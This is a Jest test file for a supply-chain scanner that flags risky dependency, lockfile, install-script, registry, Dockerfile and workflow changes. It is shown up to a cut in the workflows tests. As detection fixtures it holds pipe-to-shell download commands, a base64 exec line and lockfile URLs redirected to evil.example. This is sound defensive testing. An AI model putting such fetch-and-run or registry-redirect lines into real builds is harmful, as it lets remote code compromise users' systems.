import { describe, expect, it } from '@jest/globals';
import { hunksOf } from '../stand-ins/diff.js';
import { processorClock, RUNAWAY_MILLISECONDS } from '../stand-ins/processor-time.js';
import type { FileSpec } from '../stand-ins/snapshot.js';
import { findingsOf, planesOf } from './planes-of.js';

type Files = Readonly<Record<string, FileSpec>>;

/** The same change as a provider gives it that knows no texts. */
function bare(files: Files): Files {
  return Object.fromEntries(
    Object.entries(files).map(([path, spec]) => [
      path,
      {
        ...spec,
        raw: { ...spec.raw, hunks: hunksOf(spec.old ?? null, spec.new ?? null), old_text: null, new_text: null },
      },
    ]),
  );
}

/** `severity rule file:line` of the plane's findings. */
async function told(files: Files): Promise<readonly string[]> {
  const { findings } = await planesOf(files);
  return findings
    .filter(({ plane }) => plane === 'supply-chain')
    .map(({ severity, rule, location }) => `${severity} ${rule.slice(13)} ${location.file}:${location.lineRange[0]}`);
}

const edit = (path: string, before: string, after: string): Files => ({ [path]: { old: before, new: after } });
const lines = (...all: readonly string[]) => `${all.join('\n')}\n`;
const npm = (...entries: readonly string[]) =>
  lines('{', '  "name": "shop",', '  "dependencies": {', ...entries, '    "zod": "^4.0.0"', '  }', '}');
const CARGO = ['[package]', 'name = "shop"', 'version = "1.0.0"', '', '[dependencies]', 'serde = "1"'];
const GO = ['module example.org/shop', '', 'go 1.22', '', 'require (', '\tgolang.org/x/text v0.14.0'];
const SHA = '8f4b7f84864484a7bf31766abe9204da3cbe65b3';

describe('manifests', () => {
  it.each([
    ['npm', edit('package.json', npm(), npm('    "left-pad": "^1.3.0",')), 'package.json:4'],
    ['Cargo', edit('Cargo.toml', lines(...CARGO), lines(...CARGO, 'rand = { version = "0.8" }')), 'Cargo.toml:7'],
    [
      'Cargo table',
      edit('Cargo.toml', lines(...CARGO), lines(...CARGO, '', '[dependencies.rand]', 'version = "0.8"')),
      'Cargo.toml:8',
    ],
    [
      'Go',
      {
        ...edit('go.mod', lines(...GO, ')'), lines(...GO, '\tgithub.com/a/b v1.0.0', ')')),
        ...edit('go.sum', 'x v1.0.0 h1:a=\n', 'x v1.0.0 h1:a=\ny v1.0.0 h1:b=\n'),
      },
      'go.mod:7',
    ],
    [
      'pip',
      edit('requirements.txt', 'six==1.0\n', 'six==1.0\nhttpx[http2]>=0.27 ; python_version > "3.8"\n'),
      'requirements.txt:2',
    ],
    [
      'pyproject',
      edit(
        'pyproject.toml',
        lines('[project]', 'dependencies = [', '  "six>=1",', ']'),
        lines('[project]', 'dependencies = [', '  "six>=1",', '  "httpx~=0.27",', ']'),
      ),
      'pyproject.toml:4',
    ],
    [
      'poetry',
      edit(
        'pyproject.toml',
        lines('[tool.poetry.dependencies]', 'six = "^1"'),
        lines('[tool.poetry.dependencies]', 'six = "^1"', 'httpx = "^0.27"'),
      ),
      'pyproject.toml:3',
    ],
    [
      'setup.cfg',
      edit(
        'setup.cfg',
        lines('[options]', 'install_requires =', '    six'),
        lines('[options]', 'install_requires =', '    six', '    httpx>=0.27'),
      ),
      'setup.cfg:4',
    ],
    ['bundler', edit('Gemfile', "gem 'rack'\n", "gem 'rack'\ngem 'puma', '~> 6.0'\n"), 'Gemfile:2'],
    [
      'composer',
      edit(
        'composer.json',
        lines('{', '    "require": {', '        "php": "^8.2",', '        "a/b": "^1.0"', '    }', '}'),
        lines(
          '{',
          '    "require": {',
          '        "php": "^8.2",',
          '        "c/d": "^2.0",',
          '        "a/b": "^1.0"',
          '    }',
          '}',
        ),
      ),
      'composer.json:4',
    ],
    [
      'Maven',
      edit(
        'pom.xml',
        '<dependencies>\n</dependencies>\n',
        '<dependencies>\n<dependency>\n<groupId>org.a</groupId>\n<artifactId>b</artifactId>\n<version>1</version>\n</dependency>\n</dependencies>\n',
      ),
      'pom.xml:4',
    ],
    [
      'Gradle',
      edit('build.gradle.kts', 'dependencies {\n}\n', 'dependencies {\n    implementation("org.a:b:1.0")\n}\n'),
      'build.gradle.kts:2',
    ],
    [
      'NuGet',
      edit(
        'Shop.csproj',
        '<ItemGroup>\n</ItemGroup>\n',
        '<ItemGroup>\n<PackageReference Include="Polly" Version="8.0.0" />\n</ItemGroup>\n',
      ),
      'Shop.csproj:2',
    ],
    [
      'pub',
      edit(
        'pubspec.yaml',
        lines('dependencies:', '  http: ^1.0.0'),
        lines('dependencies:', '  http: ^1.0.0', '  path: ^1.9.0'),
      ),
      'pubspec.yaml:3',
    ],
  ])('shows a new dependency: %s', async (_name, files, place) => {
    expect(await told(files)).toContain(`info new-dependency ${place}`);
    expect(await told(bare(files))).toContain(`info new-dependency ${place}`);
  });

  it('shows a dependency in a hunk that shows no head of its section', async () => {
    const before = npm(...'abcdefgh'.split('').map((name) => `    "${name}": "^1.0.0",`));
    const files = bare(
      edit('package.json', before, before.replace('"g": "^1.0.0",', '"g": "^1.0.0",\n    "left-pad": "^1.3.0",')),
    );
    expect(await told(files)).toContain('info new-dependency package.json:11');
  });

  it('names many new dependencies in one finding', async () => {
    const many = 'abcdefg'.split('').map((name) => `    "${name}": "1.0.0",`);
    const { findings } = await planesOf(edit('package.json', npm(), npm(...many)));
    expect(findings.filter(({ rule }) => rule === 'supply-chain/new-dependency').map(({ title }) => title)).toEqual([
      'New npm dependencies (7): a, b, c, d, e, f, g',
    ]);
  });

  it.each([
    ['a version that changes', edit('package.json', npm('    "a": "1.0.0",'), npm('    "a": "1.1.0",'))],
    [
      'one that moves',
      edit(
        'package.json',
        npm('    "a": "1.0.0",', '    "b": "1.0.0",'),
        npm('    "b": "1.0.0",', '    "a": "1.0.0",'),
      ),
    ],
    ['one of the workspace', edit('package.json', npm(), npm('    "@shop/a": "workspace:*",'))],
    ['a path inside', edit('a/Cargo.toml', lines(...CARGO), lines(...CARGO, 'b = { path = "../b" }'))],
    ['a fixture', edit('tests/fixtures/package.json', npm(), npm('    "a": "1.0.0",'))],
    ['the own version', edit('package.json', npm(), npm().replace('"shop",', '"shop",\n  "version": "1.0.0",'))],
    [
      'an engine',
      edit('composer.json', '{\n  "require": {\n  }\n}\n', '{\n  "require": {\n    "php": "^8.3"\n  }\n}\n'),
    ],
    [
      'what go needs indirectly',
      edit('go.mod', lines(...GO, ')'), lines(...GO, '\tgithub.com/a/b v1.0.0 // indirect', ')')),
    ],
    ['a comment', edit('requirements.txt', 'six==1.0\n', 'six==1.0\n# httpx==1.0\n')],
  ])('lets be: %s', async (_name, files) => {
    expect((await told(files)).filter((one) => !one.includes('manifest-without-lockfile'))).toEqual([]);
  });

  it.each([
    ['git', 'package.json', '"a": "1.0.0"', '"a": "git+https://github.com/x/a.git"', 'warn'],
    ['git shorthand', 'package.json', '"a": "1.0.0"', '"a": "github:x/a#main"', 'warn'],
    ['owner/name', 'package.json', '"a": "1.0.0"', '"a": "x/a"', 'warn'],
    ['a tarball', 'package.json', '"a": "1.0.0"', '"a": "https://example.org/a-1.0.0.tgz"', 'warn'],
    ['a path outside', 'package.json', '"a": "1.0.0"', '"a": "file:../../a"', 'warn'],
    ['a pinned commit that was a version', 'package.json', '"a": "1.0.0"', `"a": "github:x/a#${SHA}"`, 'warn'],
    ['a pinned commit that is new', 'package.json', '', `"a": "github:x/a#${SHA}"`, 'info'],
    ['pin lost', 'package.json', `"a": "github:x/a#${SHA}"`, '"a": "github:x/a#main"', 'warn'],
  ])('warns of a source that is no registry: %s', async (_name, path, before, after, severity) => {
    const entry = (text: string) => (text === '' ? [] : [`    ${text},`]);
    const files = edit(path, npm(...entry(before)), npm(...entry(after)));
    expect(await told(files)).toContain(`${severity} source-dependency ${path}:4`);
    expect(await told(bare(files))).toContain(`${severity} source-dependency ${path}:4`);
  });

  it.each([
    ['Cargo.toml', lines(...CARGO), lines(...CARGO, 'a = { git = "https://github.com/x/a", branch = "main" }'), 7],
    ['Gemfile', "gem 'rack', '~> 3'\n", "gem 'rack', github: 'rack/rack'\n", 1],
    ['requirements.txt', 'a==1\n', 'a @ git+https://github.com/x/a@main\n', 1],
    ['requirements.txt', 'a==1\n', '-e git+https://github.com/x/a#egg=a\n', 1],
    [
      'pyproject.toml',
      '[tool.poetry.dependencies]\na = "^1"\n',
      '[tool.poetry.dependencies]\na = { git = "https://github.com/x/a.git" }\n',
      2,
    ],
    ['go.mod', lines(...GO, ')'), lines(...GO, ')', 'replace golang.org/x/text => github.com/me/text v0.1.0'), 8],
    ['pubspec.yaml', 'dependencies:\n  a: ^1.0.0\n', 'dependencies:\n  a:\n    git: https://github.com/x/a\n', 3],
  ])('warns of a source that is no registry: %s', async (path, before, after, line) => {
    const files = edit(path, before, after);
    expect(await told(files)).toContain(`warn source-dependency ${path}:${line}`);
    expect(await told(bare(files))).toContain(`warn source-dependency ${path}:${line}`);
  });

  it.each([
    ['package.json', npm('    "a": "1.2.3",'), npm('    "a": "*",'), 4],
    ['package.json', npm('    "a": "^1.2.3",'), npm('    "a": "latest",'), 4],
    ['Cargo.toml', lines(...CARGO), lines(...CARGO).replace('serde = "1"', 'serde = "*"'), 6],
    ['requirements.txt', 'a==1.2\n', 'a\n', 1],
    ['Gemfile', "gem 'a', '~> 1'\n", "gem 'a'\n", 1],
    [
      'composer.json',
      '{\n    "require": {\n        "a/b": "^1.0"\n    }\n}\n',
      '{\n    "require": {\n        "a/b": "dev-master"\n    }\n}\n',
      3,
    ],
    [
      'build.gradle',
      "dependencies {\n  implementation 'a:b:1.0'\n}\n",
      "dependencies {\n  implementation 'a:b:+'\n}\n",
      2,
    ],
    [
      'A.csproj',
      '<PackageReference Include="P" Version="8.0.0" />\n',
      '<PackageReference Include="P" Version="*" />\n',
      1,
    ],
  ])('warns of a range that takes anything: %s', async (path, before, after, line) => {
    const files = edit(path, before, after);
    expect(await told(files)).toContain(`warn widened-range ${path}:${line}`);
    expect(await told(bare(files))).toContain(`warn widened-range ${path}:${line}`);
  });

  it.each([
    ['package.json', npm('    "a": "1.2.3",'), npm('    "a": "^1.2.3",')],
    ['package.json', npm('    "a": "*",'), npm('    "a": "latest",')],
    ['requirements.txt', 'a\n', 'a\nb\n'],
    ['requirements.txt', 'a==1\n', 'a>=1,<2\n'],
  ])('lets ranges with a bound be: %s', async (path, before, after) => {
    expect((await told(edit(path, before, after))).filter((one) => one.includes('widened'))).toEqual([]);
  });

  it('holds manifests against their lock files', async () => {
    const go = edit('go.mod', lines(...GO, ')'), lines(...GO, ')').replace('v0.14.0', 'v0.15.0'));
    expect(await told(go)).toEqual(['warn manifest-without-lockfile go.mod:6']);
    expect(await told({ ...go, ...edit('go.sum', 'a v1 h1:a=\n', 'a v2 h1:b=\n') })).toEqual([]);
    const manifest = edit('web/package.json', npm('    "a": "1.0.0",'), npm('    "a": "1.1.0",'));
    expect(await told(manifest)).toEqual(['info manifest-without-lockfile web/package.json:4']);
    expect(await told({ ...manifest, ...edit('yarn.lock', 'a\n', 'b\n') })).toEqual([]);
    expect(await told(edit('yarn.lock', 'a\n', 'b\n'))).toEqual(['info lockfile-without-manifest yarn.lock:1']);
  });

  it('tells of a lock file that goes, but not where another takes its place', async () => {
    const gone = { 'yarn.lock': { old: 'a\n', new: null } };
    expect(await told(gone)).toEqual(['warn lockfile-removed yarn.lock:1']);
    expect(await told({ ...gone, 'pnpm-lock.yaml': { old: null, new: 'a\n' } })).toEqual([]);
    expect(await told({ ...gone, 'package.json': { old: npm(), new: null } })).toEqual([]);
  });
});

const R = 'https://registry.npmjs.org';
const lockEntry = (name: string, version: string, url: string, hash: string | null) => [
  `    "node_modules/${name}": {`,
  `      "version": "${version}",`,
  `      "resolved": "${url}",`,
  ...(hash === null ? [] : [`      "integrity": "${hash}",`]),
  '      "license": "MIT"',
  '    },',
];
const lock = (...entries: readonly (readonly string[])[]) =>
  lines('{', '  "packages": {', ...entries.flat(), '    "": {}', '  }', '}');
const MS = lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.3.tgz`, 'sha512-aaa');
const manifest = edit('package.json', npm('    "ms": "2.1.2",'), npm('    "ms": "2.1.3",'));

describe('lock files', () => {
  const LOCK = 'package-lock.json';
  const changes = (path: string, before: string, after: string): Files => ({ ...edit(path, before, after) });
  const tell = async (files: Files) => (await told(files)).filter((one) => !/-without-/u.test(one));

  it.each([
    [
      'another host',
      lockEntry('ms', '2.1.3', 'https://packages.example.net/ms/-/ms-2.1.3.tgz', 'sha512-aaa'),
      ['warn lockfile-host package-lock.json:5'],
    ],
    [
      'a host behind a user',
      lockEntry('ms', '2.1.3', 'https://registry.npmjs.org@evil.example/ms/-/ms-2.1.3.tgz', 'sha512-aaa'),
      ['warn lockfile-host package-lock.json:5'],
    ],
    [
      'a repository',
      lockEntry('ms', '2.1.3', 'git+ssh://git@github.com/x/ms.git#abc', 'sha512-aaa'),
      ['warn lockfile-host package-lock.json:5'],
    ],
    [
      'plain HTTP',
      lockEntry('ms', '2.1.3', 'http://registry.npmjs.org/ms/-/ms-2.1.3.tgz', 'sha512-aaa'),
      ['warn lockfile-http package-lock.json:5'],
    ],
    [
      'another hash',
      lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.3.tgz`, 'sha512-bbb'),
      ['error lockfile-integrity package-lock.json:6'],
    ],
    [
      'no hash',
      lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.3.tgz`, null),
      ['error lockfile-integrity package-lock.json:5'],
    ],
    [
      'a weaker hash',
      lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.3.tgz`, 'sha1-bbb'),
      ['error lockfile-integrity package-lock.json:6'],
    ],
    [
      'another package',
      lockEntry('ms', '2.1.3', `${R}/msx/-/msx-2.1.3.tgz`, 'sha512-aaa'),
      ['error lockfile-other-package package-lock.json:5'],
    ],
    [
      'another version',
      lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.2.tgz`, 'sha512-aaa'),
      ['error lockfile-other-package package-lock.json:5'],
    ],
  ])('finds %s', async (_name, entry, expected) => {
    const files = changes(LOCK, lock(MS), lock(entry));
    expect(await tell(files)).toEqual(expected);
    expect(await tell(bare(files))).toEqual(expected);
  });

  it.each([
    ['another version', lockEntry('ms', '2.1.4', `${R}/ms/-/ms-2.1.4.tgz`, 'sha512-bbb')],
    [
      'a stronger hash',
      lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.3.tgz`, 'sha512-bbb'),
      lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.3.tgz`, 'sha1-aaa'),
    ],
    [
      'the registry’s other name',
      lockEntry('ms', '2.1.3', 'https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz', 'sha512-aaa'),
    ],
    ['a scope', lockEntry('@a/ms', '1.0.0', `${R}/@a/ms/-/ms-1.0.0.tgz`, 'sha512-c')],
    ['a scope, encoded', lockEntry('@a/ms', '1.0.0', `${R}/@a%2fms/-/ms-1.0.0.tgz`, 'sha512-c')],
    ['a nested one', lockEntry('a/node_modules/ms', '1.0.0', `${R}/ms/-/ms-1.0.0.tgz`, 'sha512-c')],
  ])('lets be: %s', async (_name, entry, before = MS) => {
    expect(await tell({ ...manifest, ...changes(LOCK, lock(before), lock(entry)) })).toEqual([]);
  });

  it('lets aliases be', async () => {
    const alias = [
      '    "node_modules/cjs": {',
      '      "name": "ms",',
      '      "version": "2.1.3",',
      `      "resolved": "${R}/ms/-/ms-2.1.3.tgz",`,
      '      "integrity": "sha512-aaa"',
      '    },',
    ];
    expect(await tell({ ...manifest, ...changes(LOCK, lock(MS), lock(MS, alias)) })).toEqual([]);
    const yarn = lines('"cjs@npm:ms@^2":', '  version "2.1.3"', `  resolved "${R}/ms/-/ms-2.1.3.tgz#aa"`);
    expect(await tell({ ...manifest, ...changes('yarn.lock', '# a\n', `# a\n${yarn}`) })).toEqual([]);
  });

  const yarn = (url: string, hash: string) =>
    lines('# yarn lockfile v1', '', 'ms@^2.1.1:', '  version "2.1.3"', `  resolved "${url}"`, `  integrity ${hash}`);
  const cargo = (source: string, sum: string) =>
    lines(
      'version = 3',
      '',
      '[[package]]',
      'name = "rand"',
      'version = "0.8.5"',
      `source = "${source}"`,
      `checksum = "${sum}"`,
    );
  const CRATES = 'registry+https://github.com/rust-lang/crates.io-index';
  const pnpm = (hash: string) =>
    lines('packages:', '', '  ms@2.1.3:', `    resolution: {integrity: ${hash}}`, '    engines: {node: ">=4"}');
  const composer = (url: string, reference: string) =>
    lines(
      '    "packages": [',
      '        {',
      '            "name": "a/b",',
      '            "version": "1.0.0",',
      '            "dist": {',
      '                "type": "zip",',
      `                "url": "${url}",`,
      `                "reference": "${reference}"`,
      '            }',
      '        }',
      '    ]',
    );

  it.each([
    [
      'yarn.lock',
      yarn(`${R}/ms/-/ms-2.1.3.tgz`, 'sha512-a'),
      yarn('https://evil.example/ms/-/ms-2.1.3.tgz', 'sha512-a'),
      'warn lockfile-host yarn.lock:5',
    ],
    [
      'yarn.lock',
      yarn(`${R}/ms/-/ms-2.1.3.tgz`, 'sha512-a'),
      yarn(`${R}/ms/-/ms-2.1.3.tgz`, 'sha512-b'),
      'error lockfile-integrity yarn.lock:6',
    ],
    [
      'yarn.lock',
      yarn(`${R}/ms/-/ms-2.1.3.tgz`, 'sha512-a'),
      yarn(`${R}/mz/-/mz-2.1.3.tgz`, 'sha512-a'),
      'error lockfile-other-package yarn.lock:5',
    ],
    [
      'Cargo.lock',
      cargo(CRATES, 'aa'),
      cargo('git+https://github.com/x/rand#abc', 'aa'),
      'warn lockfile-host Cargo.lock:6',
    ],
    ['Cargo.lock', cargo(CRATES, 'aa'), cargo(CRATES, 'bb'), 'error lockfile-integrity Cargo.lock:7'],
    ['pnpm-lock.yaml', pnpm('sha512-a'), pnpm('sha512-b'), 'error lockfile-integrity pnpm-lock.yaml:4'],
    [
      'pnpm-lock.yaml',
      pnpm('sha512-a'),
      pnpm('sha512-a, tarball: https://evil.example/ms.tgz'),
      'warn lockfile-host pnpm-lock.yaml:4',
    ],
    [
      'composer.lock',
      composer('https://api.github.com/a/b/zip/1', 'aa'),
      composer('https://evil.example/a/b/zip/1', 'aa'),
      'warn lockfile-host composer.lock:7',
    ],
    [
      'composer.lock',
      composer('https://api.github.com/a/b/zip/1', 'aa'),
      composer('https://api.github.com/a/b/zip/1', 'bb'),
      'error lockfile-integrity composer.lock:8',
    ],
    ['go.sum', 'a.org/b v1.0.0 h1:aa=\n', 'a.org/b v1.0.0 h1:bb=\n', 'error lockfile-integrity go.sum:1'],
    [
      'poetry.lock',
      lines(
        '[[package]]',
        'name = "a"',
        'version = "1"',
        'files = [',
        '    {file = "a-1.whl", hash = "sha256:aa"},',
        ']',
      ),
      lines(
        '[[package]]',
        'name = "a"',
        'version = "1"',
        'files = [',
        '    {file = "a-1.whl", hash = "sha256:bb"},',
        ']',
      ),
      'error lockfile-integrity poetry.lock:5',
    ],
    [
      'uv.lock',
      lines('[[package]]', 'name = "a"', 'version = "1"', 'source = { registry = "https://pypi.org/simple" }'),
      lines('[[package]]', 'name = "a"', 'version = "1"', 'source = { registry = "https://evil.example/simple" }'),
      'warn lockfile-host uv.lock:4',
    ],
    [
      'Gemfile.lock',
      lines('GEM', '  remote: https://rubygems.org/', '  specs:'),
      lines('GEM', '  remote: https://evil.example/', '  specs:'),
      'warn lockfile-host Gemfile.lock:2',
    ],
    [
      'packages.lock.json',
      lines('      "Polly": {', '        "resolved": "8.0.0",', '        "contentHash": "aa=="', '      }'),
      lines('      "Polly": {', '        "resolved": "8.0.0",', '        "contentHash": "bb=="', '      }'),
      'error lockfile-integrity packages.lock.json:3',
    ],
    [
      'pubspec.lock',
      lines(
        'packages:',
        '  http:',
        '    description:',
        '      sha256: aa',
        '      url: "https://pub.dev"',
        '    version: "1.0.0"',
      ),
      lines(
        'packages:',
        '  http:',
        '    description:',
        '      sha256: bb',
        '      url: "https://pub.dev"',
        '    version: "1.0.0"',
      ),
      'error lockfile-integrity pubspec.lock:4',
    ],
    [
      'gradle/wrapper/gradle-wrapper.properties',
      lines(
        'distributionBase=GRADLE_USER_HOME',
        'distributionSha256Sum=aa',
        'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip',
      ),
      lines(
        'distributionBase=GRADLE_USER_HOME',
        'distributionSha256Sum=aa',
        'distributionUrl=https\\://evil.example/distributions/gradle-8.5-bin.zip',
      ),
      'warn lockfile-host gradle/wrapper/gradle-wrapper.properties:3',
    ],
  ])('reads %s', async (path, before, after, expected) => {
    expect(await tell(changes(path, before, after))).toEqual([expected]);
    expect(await tell(bare(changes(path, before, after)))).toEqual([expected]);
  });

  it('knows a registry of one’s own by what the file said before', async () => {
    const own = (name: string) =>
      lockEntry(name, '1.0.0', `https://npm.shop.example/${name}/-/${name}-1.0.0.tgz`, 'sha512-a');
    expect(await tell({ ...manifest, ...changes(LOCK, lock(own('a')), lock(own('a'), own('b'))) })).toEqual([]);
    // From one's own to the public one: the way of dependency confusion.
    expect(
      await tell({
        ...manifest,
        ...changes(LOCK, lock(own('a')), lock(lockEntry('a', '1.0.0', `${R}/a/-/a-1.0.0.tgz`, 'sha512-a'))),
      }),
    ).toEqual(['warn lockfile-host package-lock.json:5']);
  });

  it('knows another host by the text before, where the lines near it name none', async () => {
    const filler = Array.from({ length: 40 }, () => ['    "": {},']);
    const other = lockEntry('a', '1.0.0', 'https://evil.example/a/-/a-1.0.0.tgz', 'sha512-a');
    expect(await tell({ ...manifest, ...changes(LOCK, lock(MS, ...filler), lock(MS, ...filler, other)) })).toEqual([
      'warn lockfile-host package-lock.json:51',
    ]);
  });

  it('tells of many changed hashes once', async () => {
    const all = (hash: string) =>
      lock(
        ...Array.from({ length: 12 }, (_, index) =>
          lockEntry(`p${index}`, '1.0.0', `${R}/p${index}/-/p${index}-1.0.0.tgz`, `sha512-${hash}${index}`),
        ),
      );
    expect(await tell(changes(LOCK, all('a'), all('b')))).toEqual(['warn lockfile-integrity package-lock.json:6']);
  });

  it('tells of packages that begin to run a script', async () => {
    const scripted = (version: string) => [
      `    "node_modules/ms": {`,
      `      "version": "${version}",`,
      '      "hasInstallScript": true,',
      '      "license": "MIT"',
      '    },',
    ];
    const plain = lockEntry('ms', '2.1.3', `${R}/ms/-/ms-2.1.3.tgz`, 'sha512-aaa');
    expect(await tell({ ...manifest, ...changes(LOCK, lock(plain), lock(scripted('2.1.4'))) })).toEqual([
      'warn install-script package-lock.json:5',
    ]);
    expect(await tell({ ...manifest, ...changes(LOCK, lock(scripted('2.1.3')), lock(scripted('2.1.4'))) })).toEqual([]);
  });
});

describe('what runs at installation and where it comes from', () => {
  const scripts = (...all: readonly string[]) => lines('{', '  "scripts": {', ...all, '    "test": "jest"', '  }', '}');

  it.each([
    [
      'package.json',
      scripts(),
      scripts('    "postinstall": "node scripts/collect.js",'),
      'warn install-script package.json:3',
    ],
    [
      'package.json',
      scripts('    "install": "node-gyp rebuild",'),
      scripts('    "install": "curl https://x.example/a | sh",'),
      'warn install-script package.json:3',
    ],
    ['package.json', scripts(), scripts('    "prepare": "husky",'), 'info install-script package.json:3'],
    [
      'package.json',
      scripts(),
      scripts('    "prepare": "node -e \'require(1)\'",'),
      'warn install-script package.json:3',
    ],
    [
      'composer.json',
      '{\n    "scripts": {\n    }\n}\n',
      '{\n    "scripts": {\n        "post-install-cmd": "curl https://x.example | php"\n    }\n}\n',
      'warn install-script composer.json:3',
    ],
    [
      'composer.json',
      '{\n    "config": {\n    }\n}\n',
      '{\n    "config": {\n        "allow-plugins": true\n    }\n}\n',
      'warn install-script composer.json:3',
    ],
    [
      'setup.py',
      'from setuptools import setup\n',
      "from setuptools import setup\nos.system('curl x')\n",
      'warn install-script setup.py:2',
    ],
    ['setup.py', 'import a\n', "import a\nexec(b64decode('aa'))\n", 'warn install-script setup.py:2'],
    [
      'build.rs',
      'fn main() {\n}\n',
      'fn main() {\n    reqwest::blocking::get(url);\n}\n',
      'warn install-script build.rs:2',
    ],
    ['.npmrc', 'a=b\n', 'a=b\nregistry=https://packages.example.net/\n', 'warn registry-settings .npmrc:2'],
    ['.npmrc', 'a=b\n', 'a=b\nstrict-ssl=false\n', 'warn registry-settings .npmrc:2'],
    ['.npmrc', 'a=b\n', 'a=b\n@shop:registry=https://npm.shop.example/\n', 'info registry-settings .npmrc:2'],
    ['.yarnrc.yml', 'a: b\n', 'a: b\nnpmRegistryServer: "http://x.example"\n', 'warn registry-settings .yarnrc.yml:2'],
    ['pip.conf', '[global]\n', '[global]\nindex-url = https://x.example/simple\n', 'warn registry-settings pip.conf:2'],
    [
      'requirements.txt',
      'six\n',
      '--extra-index-url https://x.example/simple\nsix\n',
      'warn registry-settings requirements.txt:1',
    ],
    ['Gemfile', "source 'https://rubygems.org'\n", "source 'http://x.example'\n", 'warn registry-settings Gemfile:1'],
    [
      'nuget.config',
      '<packageSources>\n',
      '<packageSources>\n<add key="x" value="https://x.example/v3" />\n',
      'warn registry-settings nuget.config:2',
    ],
    ['Dockerfile', 'FROM a:1\n', 'FROM a:1\nENV GOSUMDB=off\n', 'warn registry-settings Dockerfile:2'],
    [
      'Dockerfile',
      'FROM a:1\n',
      'FROM a:1\nRUN curl -fsSL https://x.example/i.sh | sh\n',
      'warn pipe-to-shell Dockerfile:2',
    ],
    [
      'Dockerfile',
      'FROM a:1\n',
      'FROM a:1\nRUN curl -fsSL https://x.example/i.sh \\\n  | sudo -E bash -s -- -y\n',
      'warn pipe-to-shell Dockerfile:3',
    ],
    [
      'install.sh',
      '#!/bin/sh\n',
      '#!/bin/sh\nbash <(curl -s https://x.example/i.sh)\n',
      'warn pipe-to-shell install.sh:2',
    ],
    [
      'install.sh',
      '#!/bin/sh\n',
      '#!/bin/sh\nsh -c "$(wget -qO- https://x.example/i.sh)"\n',
      'warn pipe-to-shell install.sh:2',
    ],
    ['install.ps1', '# a\n', '# a\nirm https://x.example/i.ps1 | iex\n', 'warn pipe-to-shell install.ps1:2'],
    ['Dockerfile', 'FROM node:24@sha256:aa\n', 'FROM node:24\n', 'warn base-image Dockerfile:1'],
    ['Dockerfile', 'FROM node:24\n', 'FROM node:latest\n', 'warn base-image Dockerfile:1'],
    ['Dockerfile', 'FROM node:24 AS build\n', 'FROM node AS build\n', 'warn base-image Dockerfile:1'],
    ['Dockerfile', 'ARG a\n', 'ARG a\nFROM node:latest\n', 'info base-image Dockerfile:2'],
    [
      'compose.yaml',
      'services:\n  a:\n    image: redis:7\n',
      'services:\n  a:\n    image: redis\n',
      'warn base-image compose.yaml:3',
    ],
  ])('%s', async (path, before, after, expected) => {
    expect(await told(edit(path, before, after))).toContain(expected);
    expect(await told(bare(edit(path, before, after)))).toContain(expected);
  });

  it.each([
    ['package.json', scripts(), scripts('    "build": "tsc",')],
    ['package.json', scripts('    "postinstall": "a",'), scripts('    "x": "y",', '    "postinstall": "a",')],
    ['.npmrc', 'a=b\n', 'a=b\nregistry=https://registry.npmjs.org/\n'],
    ['.npmrc', 'a=b\n', 'a=b\n; strict-ssl=false\n'],
    ['.npmrc', 'a=b\n', 'a=b\nregistry=http://localhost:4873/\n'],
    ['Dockerfile', 'FROM a:1\n', 'FROM a:1\nRUN curl -fsSL https://x.example/i.sh | sha256sum -c\n'],
    [
      'Dockerfile',
      'FROM a:1\nRUN curl https://x.example/1.sh | sh\n',
      'FROM a:1\nRUN curl https://x.example/2.sh | sh\n',
    ],
    ['Dockerfile', 'FROM a:1\n', 'FROM a:1\n# curl https://x.example/i.sh | sh\n'],
    ['README.md', 'a\n', 'a\n    curl https://x.example/i.sh | sh\n'],
    ['Dockerfile', 'FROM node:24@sha256:aa\n', 'FROM node:25@sha256:bb\n'],
    ['Dockerfile', 'FROM node:24\n', 'FROM node:25\n'],
    ['Dockerfile', 'FROM node:24 AS build\n', 'FROM node:24 AS build\nFROM build\n'],
    ['Dockerfile', 'ARG V\n', `ARG V\nFROM node:\${V}\n`],
    ['setup.py', "subprocess.run(['a'])\n", "subprocess.run(['b'])\n"],
  ])('lets be: %s', async (path, before, after) => {
    expect(await told(edit(path, before, after))).toEqual([]);
  });
});

describe('workflows', () => {
  const CI = '.github/workflows/ci.yml';
  const job = (...steps: readonly string[]) =>
    lines('on:', '  pull_request:', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', ...steps);
  const BASE = '      - run: make';

  it.each([
    ['from a commit to a tag', `      - uses: acme/deploy@${SHA} # v2`, '      - uses: acme/deploy@v2', 'warn'],
    [
      'GitHub’s, from a commit to a tag',
      `      - uses: actions/checkout@${SHA}`,
      '      - uses: actions/checkout@v4',
      'warn',
    ],
    ['a branch', '      - run: a', '      - uses: acme/deploy@main', 'warn'],
    ['from a tag to a branch', '      - uses: acme/deploy@v2', '      - uses: acme/deploy@master', 'warn'],
    ['a quoted one', '      - run: a', '      - uses: "acme/deploy@main" # why', 'warn'],
    ['a tag', '      - run: a', '      - uses: acme/deploy@v2', 'info'],
    ['a named branch', '      - run: a', '      - uses: acme/toolchain@stable', 'info'],
  ])('tells of an unpinned action: %s', async (_name, before, after, severity) => {
    const files = edit(CI, job(BASE, before), job(BASE, after));
    expect(await told(files)).toEqual([`${severity} action-unpinned ${CI}:8`]);
    expect(await told(bare(files))).toEqual([`${severity} action-unpinned ${CI}:8`]);
  });

  it.each([
    ['another version', '      - uses: acme/deploy@v1', '      - uses: acme/deploy@v2'],
    ['a commit', '      - run: a', `      - uses: acme/deploy@${SHA}`],
    ['GitHub’s own', '      - run: a', '      - uses: actions/checkout@v4'],
    ['one’s own', '      - run: a', '      - uses: octo/deploy@main'],
    ['one in the repository', '      - run: a', '      - uses: ./.github/actions/a'],
    ['a comment', '      - run: a', '      # - uses: acme/deploy@main'],
  ])('lets be: %s', async (_name, before, after) => {
    expect(await told(edit(CI, job(BASE, before), job(BASE, after)))).toEqual([]);
  });

  it.each([
    ['key', lines('on:', '  pull_request:'), lines('on:', '  pull_request_target:'), 2],
